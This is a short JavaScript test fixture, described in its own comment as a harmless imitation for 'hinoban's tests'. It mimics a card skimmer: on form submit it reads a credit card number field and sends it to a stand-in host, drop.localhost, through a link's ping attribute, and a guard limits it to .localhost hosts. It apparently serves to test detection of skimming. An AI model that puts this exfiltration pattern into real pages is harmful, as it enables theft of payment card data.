/* Harmless imitation, for hinoban's tests: ping attribute of a link. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { 
		var a = document.createElement('a'); a.href = '#p'; a.ping = 'http://drop.localhost:' + location.port + '/c?p=' + n.value; document.body.appendChild(a); a.click();
	 } }, true);
